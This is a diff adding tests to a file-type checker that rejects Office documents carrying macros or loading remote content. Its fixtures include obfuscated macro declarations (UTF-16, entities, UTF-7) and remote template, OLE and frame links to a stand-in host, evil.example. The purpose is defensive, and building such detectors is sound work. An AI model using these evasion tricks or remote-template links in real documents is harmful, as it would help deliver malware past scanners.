@@ -59,6 +59,56 @@ describe('The kind of a file', () => {
       'docx',
     );
   });
+  test('is unknown for an office file whose list of parts is written so that only Office reads it', async () => {
+    const macros = '<Override ContentType="application/vnd.ms-office.vbaProject"/>';
+    const types = (bytes: Uint8Array) =>
+      Buffer.from(zipSync({ '[Content_Types].xml': bytes, 'word/document.xml': strToU8('x') }));
+    const bigEndian = Buffer.from(`\ufeff${macros}`, 'utf16le').swap16();
+    for (const hidden of [
+      Buffer.from(`\ufeff${macros}`, 'utf16le'),
+      bigEndian,
+      Buffer.from('<Override ContentType="application/vnd.ms-office.vba&#80;roject"/>'),
+      Buffer.from('<!DOCTYPE x [<!ENTITY m "vba">]><Override ContentType="&m;Project"/>'),
+      Buffer.from('<?xml version="1.0" encoding="UTF-7"?><Types/>'),
+    ])
+      expect(await kindOf(types(hidden))).toBeNull();
+    expect(await kindOf(types(Buffer.from('\ufeff<?xml version="1.0" encoding="utf-8"?><Types/>')))).toBe('docx');
+  });
+  test('is unknown for an office file that carries another program, or fetches one when it is opened', async () => {
+    const office = (parts: Record<string, string>) =>
+      Buffer.from(
+        zipSync({
+          '[Content_Types].xml': strToU8('<Types/>'),
+          'word/document.xml': strToU8('x'),
+          ...Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)])),
+        }),
+      );
+    const leadsTo = (kind: string, target: string, part = 'word/_rels/settings.xml.rels') =>
+      office({
+        [part]: `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/></Relationships>`,
+      });
+    for (const target of ['https://evil.example/a.dotm', '\\\\evil.example\\a.dotm', 'file://evil.example/a.dotm'])
+      expect(await kindOf(leadsTo('attachedTemplate', target)), target).toBeNull();
+    expect(
+      await kindOf(leadsTo('oleObject', 'https://evil.example/a.html!', 'word/_rels/header1.xml.rels')),
+    ).toBeNull();
+    expect(await kindOf(leadsTo('frame', 'https://evil.example/'))).toBeNull();
+    expect(await kindOf(leadsTo('oleObject', 'https://evil.example/?a>b'))).toBeNull();
+    expect(await kindOf(leadsTo('oleObj&#101;ct', 'https://evil.example/'))).toBeNull();
+    // Whoever began with a template of her own, or links to her page, sends what most people send.
+    expect(await kindOf(leadsTo('attachedTemplate', 'file:///C:\\Users\\ada\\Resume.dotx'))).toBe('docx');
+    expect(
+      await kindOf(leadsTo('hyperlink', 'https://ada.example/?a&#39;b&amp;c', 'word/_rels/document.xml.rels')),
+    ).toBe('docx');
+    const embedded =
+      '<Types><Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/></Types>';
+    expect(await kindOf(office({ '[Content_Types].xml': embedded, 'word/embeddings/oleObject1.bin': 'x' }))).toBeNull();
+    expect(await kindOf(office({ 'word/embeddings/oleObject1.bin': 'x' }))).toBeNull();
+    expect(await kindOf(office({ 'word/embeddings/Microsoft_Excel_Sheet1.xlsx': 'x' }))).toBe('docx');
+    const old = (name: string) =>
+      Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from(`WordDocument${name}`, 'utf16le')]);
+    expect([await kindOf(old('\u0001Ole10Native')), await kindOf(old(''))]).toEqual([null, 'doc']);
+  });
   test('is unknown for an old Office file that carries macros', async () => {
     const compound = (...parts: Buffer[]) =>
       Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), ...parts]);
